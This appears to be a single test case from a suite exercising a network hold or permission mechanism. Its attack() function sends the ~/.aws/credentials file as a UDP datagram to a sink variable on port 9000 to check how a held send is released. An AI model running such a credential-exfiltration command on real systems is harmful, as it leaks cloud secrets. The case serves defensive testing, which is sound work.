# SPDX-License-Identifier: Apache-2.0
TITLE="a held datagram, allowed after two seconds, goes on at once"
ROW="N08"
FORM=hold
attack() { "$PROVOKE/datagram" sendto "$HOME/.aws/credentials" "$SINK4" 9000; sleep 3; }
